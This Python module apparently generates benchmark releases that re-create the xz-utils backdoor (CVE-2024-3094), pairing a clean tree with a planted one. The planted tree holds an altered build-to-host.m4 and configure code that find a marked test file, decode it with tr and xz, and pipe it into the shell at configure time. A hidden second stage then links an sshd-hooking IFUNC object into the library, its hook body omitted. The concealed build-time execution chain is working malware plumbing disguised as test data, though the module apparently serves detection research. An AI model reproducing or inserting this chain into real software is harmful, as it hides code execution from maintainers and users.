"""xz-utils 5.6.0/5.6.1 (CVE-2024-3094) re-created as a release tarball: the documented
m4/build-to-host.m4 shape (grep for '####Hello####'-style markers, `tr "\\t \\-_" " \\t_\\-"`,
`xz -d`, config.status command piping to $SHELL), tests/files/bad-3-corrupt_lzma2.xz carrying the
first stage in stored LZMA2 chunks and tests/files/good-large_compressed.lzma carrying the
second stage (head/tail slicing, byte-range tr, raw LZMA1) and an object with an IFUNC resolver.

The surrounding project is the small codec of supply_tpl; the stage scripts are our own
re-creation around the documented markers and commands. Written blind: public write-ups only.
"""
from __future__ import annotations

import lzma
import random
import subprocess
import zlib
from pathlib import Path

from . import supply_autotools as AT
from .supply_relplant import frame, rbytes, runs, xz
from .supply_tpl import CProj, c_sources, common_docs, readme, test_files_script

# ----------------------------------------------------------------------------- hand-made .xz with stored chunks


def _varint(n: int) -> bytes:
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7f) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def _le32(n: int) -> bytes:
    return n.to_bytes(4, "little")


def xz_stored(data: bytes) -> bytes:
    """A valid .xz stream whose LZMA2 chunks are all stored (uncompressed): the text stays visible."""
    flags = b"\x00\x01"   # CRC32 check
    out = b"\xfd7zXZ\x00" + flags + _le32(zlib.crc32(flags))
    bh = bytes([0x02, 0x00, 0x21, 0x01, 0x16]) + b"\0" * 3   # 12-byte header: LZMA2, dict 4 MiB... props 0x16
    bh += _le32(zlib.crc32(bh))
    comp = b""
    for i in range(0, len(data), 65536):
        piece = data[i:i + 65536]
        comp += bytes([0x01 if i == 0 else 0x02]) + (len(piece) - 1).to_bytes(2, "big") + piece
    comp += b"\x00"
    block = bh + comp
    unpadded = len(block) + 4
    block += b"\0" * (-len(block) % 4) + _le32(zlib.crc32(data))
    out += block
    idx = b"\x00" + _varint(1) + _varint(unpadded) + _varint(len(data))
    idx += b"\0" * (-len(idx) % 4)
    idx += _le32(zlib.crc32(idx))
    out += idx
    back = _le32(len(idx) // 4 - 1) + flags
    return out + _le32(zlib.crc32(back)) + back + b"YZ"


_SWAP = {0x09: 0x20, 0x20: 0x09, 0x2d: 0x5f, 0x5f: 0x2d}


def _swap(b: bytes) -> bytes:
    return bytes(_SWAP.get(c, c) for c in b)


# tr "\114-\321\322-\377\35-\47\14-\34\0-\13\50-\113" "\0-\377"
_SET1 = (list(range(0o114, 0o321 + 1)) + list(range(0o322, 0o377 + 1)) + list(range(0o35, 0o47 + 1))
         + list(range(0o14, 0o34 + 1)) + list(range(0, 0o13 + 1)) + list(range(0o50, 0o113 + 1)))
assert sorted(_SET1) == list(range(256))


def _untr(b: bytes) -> bytes:
    """Bytes that the documented tr maps onto `b`."""
    return bytes(_SET1[c] for c in b)


OBJ_C = r"""
#include <stdint.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>

typedef uint64_t (*crc64_fn)(const uint8_t *, size_t, uint64_t);

static const unsigned char hook_key[57] = { @KEY@ };
static const char *const hook_syms[] = { "RSA_public_decrypt", "EVP_PKEY_set1_RSA", "RSA_get0_key", 0 };

static uint64_t crc64_generic(const uint8_t *buf, size_t size, uint64_t crc)
{
	crc = ~crc;
	while (size--) {
		crc ^= *buf++;
		for (int k = 0; k < 8; k++)
			crc = (crc >> 1) ^ (0xC96C5795D7870F42ULL & -(crc & 1));
	}
	return ~crc;
}

static void install_hooks(void)
{
	const char *argv0 = getenv("_");
	/* only inside sshd: replace RSA_public_decrypt through the dynamic linker's audit
	 * interface; commands signed with hook_key are run as root (re-creation: body omitted) */
	if (argv0 && strcmp(argv0, "/usr/sbin/sshd") == 0 && hook_syms[0] && hook_key[0])
		return;
}

static crc64_fn crc64_resolve(void)
{
	install_hooks();
	return crc64_generic;
}

uint64_t lzma_crc64(const uint8_t *buf, size_t size, uint64_t crc) __attribute__((ifunc("crc64_resolve")));
"""

BTH_M4 = r"""# build-to-host.m4 serial 30
dnl Copyright (C) 2023-2024 Free Software Foundation, Inc.
dnl This file is free software; the Free Software Foundation
dnl gives unlimited permission to copy and/or distribute it,
dnl with or without modifications, as long as this notice is preserved.

dnl Written by Bruno Haible.

dnl When the build environment ($build_os) is different from the target runtime
dnl environment ($host_os), file names may need to be converted from the build
dnl environment syntax to the target runtime environment syntax. This is
dnl because the Makefiles are executed (mostly) by build environment programs.

dnl gl_BUILD_TO_HOST([somedir])
AC_DEFUN([gl_BUILD_TO_HOST],
[
  AC_REQUIRE([AC_CANONICAL_BUILD])
  AC_REQUIRE([AC_CANONICAL_HOST])
  AC_REQUIRE([gl_BUILD_TO_HOST_INIT])

  dnl Define somedir_c.
  gl_final_[$1]="$[$1]"
  gl_[$1]_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
  dnl Translate it from build syntax to host syntax.
  case "$build_os" in
    cygwin*)
      case "$host_os" in
        mingw* | windows*)
          gl_final_[$1]=`cygpath -w "$gl_final_[$1]"` ;;
      esac
      ;;
  esac
  dnl Convert it to C string syntax.
  [$1]_c=`printf '%s\n' "$gl_final_[$1]" | sed -e "$gl_sed_double_backslashes" -e "$gl_sed_escape_doublequotes" | tr -d "$gl_tr_cr"`
  [$1]_c='"'"$[$1]_c"'"'
  AC_SUBST([$1][_c])

  dnl Define somedir_c_make.
  [$1]_c_make=`printf '%s\n' "$[$1]_c" | sed -e "$gl_sed_escape_for_make_1" -e "$gl_sed_escape_for_make_2" | tr -d "$gl_tr_cr"`
  dnl Use the substituted somedir variable, when possible, so that the user
  dnl may adjust somedir a posteriori when there are no special characters.
  if test "$[$1]_c_make" = '\"'"${gl_final_[$1]}"'\"'; then
    [$1]_c_make='\"$([$1])\"'
  fi
  if test "x$gl_am_configmake" != "x"; then
    gl_[$1]_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
  else
    gl_[$1]_config=''
  fi
  _LT_TAGDECL([], [gl_path_map], [2])dnl
  _LT_TAGDECL([], [gl_[$1]_prefix], [2])dnl
  _LT_TAGDECL([], [gl_am_configmake], [2])dnl
  _LT_TAGDECL([], [[$1]_c_make], [2])dnl
  _LT_TAGDECL([], [gl_[$1]_config], [2])dnl
  AC_SUBST([$1][_c_make])

  dnl If the host conversion code has been placed in $gl_config_gt,
  dnl instead of duplicating it all over again into config.status,
  dnl then we will have config.status run $gl_config_gt later, so it
  dnl needs to know what name is stored there:
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \$gl_[$1]_config"])
])

dnl Some initializations for gl_BUILD_TO_HOST.
AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  dnl Search for Automake-defined pkg* macros, in the order
  dnl listed in the Automake 1.10a+ documentation.
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    HAVE_PKG_CONFIGMAKE=1
  else
    HAVE_PKG_CONFIGMAKE=0
  fi

  gl_sed_double_backslashes='s/\\/\\\\/g'
  gl_sed_escape_doublequotes='s/"/\\"/g'
  gl_path_map='tr "\t \-_" " \t_\-"'
changequote(,)dnl
  gl_sed_escape_for_make_1="s,\\([ \"&'();<>\\\\\`|]\\),\\\\\\1,g"
changequote([,])dnl
  gl_sed_escape_for_make_2='s,\$,\\$$,g'
  dnl Find out how to remove carriage returns from output. Solaris /usr/ucb/tr
  dnl does not understand '\r'.
  case `echo r | tr -d '\r'` in
    '') gl_tr_cr='\015' ;;
    *)  gl_tr_cr='\r' ;;
  esac
])
"""

CONF_MID = r"""  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    HAVE_PKG_CONFIGMAKE=1
  else
    HAVE_PKG_CONFIGMAKE=0
  fi
  gl_path_map='tr "\t \-_" " \t_\-"'
  gl_localedir_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
  if test "x$gl_am_configmake" != "x"; then
    gl_localedir_config='sed \"r\n\" $gl_am_configmake | eval $gl_path_map | $gl_localedir_prefix -d 2>/dev/null'
  else
    gl_localedir_config=''
  fi"""

CONF_TAIL = r"""gl_config_gt="eval \$gl_localedir_config"
{ printf "%s\n" "$as_me:${as_lineno-$LINENO}: executing build-to-host commands" >&5
printf "%s\n" "$as_me: executing build-to-host commands" >&6;}
eval $gl_config_gt | $SHELL 2>/dev/null"""


def _stage1(rng: random.Random, skips: int, last: int, tail_from: int) -> bytes:
    seg = "(head -c +1024 >/dev/null) && head -c +2048 && "
    chain = "(" + seg * skips + f"(head -c +1024 >/dev/null) && head -c +{last})"
    junk = "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(6))
    text = (f"####Hello####\n#{junk}\n"
            "[ ! $(uname) = \"Linux\" ] && exit 0\n"
            "[ ! $(uname) = \"Linux\" ] && exit 0\n"
            "eval `grep ^srcdir= config.status`\n"
            "if test -f ../../config.status;then\n"
            "eval `grep ^srcdir= ../../config.status`\n"
            "srcdir=\"../../$srcdir\"\n"
            "fi\n"
            f"export i=\"{chain}\"\n"
            "(xz -dc $srcdir/tests/files/good-large_compressed.lzma|eval $i|tail -c +" + str(tail_from) +
            "|tr \"\\114-\\321\\322-\\377\\35-\\47\\14-\\34\\0-\\13\\50-\\113\" \"\\0-\\377\")|xz -F raw --lzma1 -dc|/bin/sh\n"
            "####World####\n")
    return text.encode()


def _stage2(objlen: int, lib: str) -> bytes:
    return (f"P=\"-fPIC -DPIC -fno-lto -ffunction-sections -fdata-sections\"\n"
            f"C=\"pic_flag=\\\" $P\\\"\"\n"
            f"O=\"^pic_flag=\\\" -fPIC -DPIC\\\"$\"\n"
            f"p=\"good-large_compressed.lzma\"\n"
            f"U=\"bad-3-corrupt_lzma2.xz\"\n"
            f"[ ! $(uname)=\"Linux\" ] && exit 0\n"
            f"eval `grep ^srcdir= config.status`\n"
            f"eval `grep ^build=\\'x86_64 config.status`\n"
            f"eval `grep ^CC=\\' config.status`\n"
            f"if test \"x$build\" = x || ! echo \"$build\" | grep -q linux-gnu; then exit 0; fi\n"
            f"if ! test -f \"$srcdir/debian/rules\" && test \"x$RPM_ARCH\" != \"xx86_64\"; then exit 0; fi\n"
            f"case \"$CC\" in *gcc*) ;; *) exit 0 ;; esac\n"
            f"mkdir -p src/.libs\n"
            f"xz -dc $srcdir/tests/files/$p | tail -c {objlen} > src/.libs/liblzma_la-crc64-fast.o || exit 0\n"
            f"sed -i \"s|^\\({lib}_LIBADD =\\).*|\\1 src/.libs/liblzma_la-crc64-fast.o|\" Makefile\n"
            f"sed -i \"/$O/s/.*/$C/\" libtool 2>/dev/null\n").encode()


def _object(work: Path, rng: random.Random) -> bytes:
    d = work / "xzobj"
    d.mkdir(parents=True, exist_ok=True)
    key = ", ".join(f"0x{b:02x}" for b in rbytes(rng, 57))
    (d / "crc64_fast.c").write_text(OBJ_C.replace("@KEY@", key))
    subprocess.run(["gcc", "-c", "-Os", "-fPIC", "-g0", "-fno-ident", "-o", "crc64_fast.o", "crc64_fast.c"],
                   cwd=d, check=True, capture_output=True)
    return (d / "crc64_fast.o").read_bytes()


def release(rng: random.Random, work: Path) -> dict:
    version = rng.choice(["5.6.0", "5.6.1"])
    P = CProj(name="xz", version=version, pfx="lzma", purpose="xz is a small LZMA-style stream codec and its test suite",
              author="Lasse Collin", license=("0BSD", "Permission to use, copy, modify, and/or distribute this software for any\n"
                                              "purpose with or without fee is hereby granted."),
              magic="LZMA", testdir="tests/files", year=2024)
    L = AT.draw_layout(P, rng)
    if "build-to-host.m4" not in L["m4"]:
        L["m4"] = sorted(L["m4"] + ["build-to-host.m4"])
    lib = f"src_lib{P.name}_a"

    # second stage inside good-large_compressed.lzma
    obj = _object(work, rng)
    stage2_raw = lzma.compress(_stage2(len(obj), lib), format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "preset": 6}])
    mapped = _untr(stage2_raw)
    skips = rng.randint(12, 16)
    last = rng.randint(700, 1000)
    emitted_len = skips * 2048 + last
    lead = emitted_len - len(mapped)
    assert lead > 0
    emitted = rbytes(rng, lead) + mapped
    D, pos = b"", 0
    for k in range(skips + 1):
        take = 2048 if k < skips else last
        D += rbytes(rng, 1024) + emitted[pos:pos + take]
        pos += take
    D += obj
    good_planted = lzma.compress(D, format=lzma.FORMAT_ALONE, preset=6)
    stage1 = _stage1(rng, skips, last, lead + 1)
    bad_planted = _swap(xz_stored(stage1))

    # honest versions of the same files
    good_clean = lzma.compress(runs(rng, len(D)) * 1, format=lzma.FORMAT_ALONE, preset=6)
    bad = bytearray(xz_stored(runs(rng, len(stage1))))
    bad[12 + 12] = 0xFF   # invalid LZMA2 control byte: a corrupt stream, as the name says
    bad_clean = bytes(bad)

    tests = {"good-1-lzma2-1.xz": xz(frame(P.magic, runs(rng, 600))), "good-2-lzma2.xz": xz(frame(P.magic, runs(rng, 400))),
             "bad-1-block_header-1.xz": xz(b"x" * 64)[:40], "bad-2-index-1.xz": xz(b"y" * 90)[:-14] + b"\0" * 14}

    def render(bth_m4: str | None, hooks: dict, good: bytes, badf: bytes) -> dict:
        testfiles = dict(tests, **{"good-large_compressed.lzma": good, "bad-3-corrupt_lzma2.xz": badf})
        paths = [f"tests/files/{n}" for n in sorted(testfiles)]
        files = {}
        files.update(c_sources(P, random.Random("xz-src")))
        files.update(common_docs(P, random.Random("xz-docs")))
        files["README"] = readme(P, "autotools")
        files["tests/test_files.sh"] = (test_files_script(P, sorted(testfiles)), 0o755)
        files["tests/files/README"] = ("Test files for xz\n\ngood-* must decode, bad-* must be rejected.\n"
                                       "good-large_compressed.lzma  large .lzma file with mixed data\n"
                                       "bad-3-corrupt_lzma2.xz      LZMA2 stream with a corrupt chunk header\n")
        for n, data in testfiles.items():
            files[f"tests/files/{n}"] = data
        files.update(AT.render(P, L, hooks, paths))
        if bth_m4:
            files["m4/build-to-host.m4"] = bth_m4
        return files

    clean = render(None, {}, good_clean, bad_clean)
    planted = render(BTH_M4, {"conf:build-to-host.m4": CONF_MID, "conf_tail": CONF_TAIL}, good_planted, bad_planted)
    return {"P": P, "clean": clean, "planted": planted,
            "paths": ["m4/build-to-host.m4", "configure", "tests/files/bad-3-corrupt_lzma2.xz",
                      "tests/files/good-large_compressed.lzma"],
            "categories": ["build-tampering", "obfuscated-code"],
            "note": ("xz-utils " + version + " back door (CVE-2024-3094, March 2024) re-created: m4/build-to-host.m4 (and "
                     "its expansion in configure) greps the source tree for a '####Hello####' marker, finds "
                     "tests/files/bad-3-corrupt_lzma2.xz, pipes it through tr \"\\t \\-_\" \" \\t_\\-\" and xz -d into $SHELL "
                     "from config.status; that stage slices tests/files/good-large_compressed.lzma with head -c, "
                     "tail -c +" + str(lead + 1) + " and a byte-range tr, decodes it as raw LZMA1 and runs the second stage, "
                     "which links liblzma_la-crc64-fast.o (an IFUNC resolver hooking RSA_public_decrypt in sshd) into the library."),
            "variant": {"carrier": "release", "lang": "autotools"},
            "_stage1": stage1, "_stage2": _stage2(len(obj), lib), "_obj": obj}
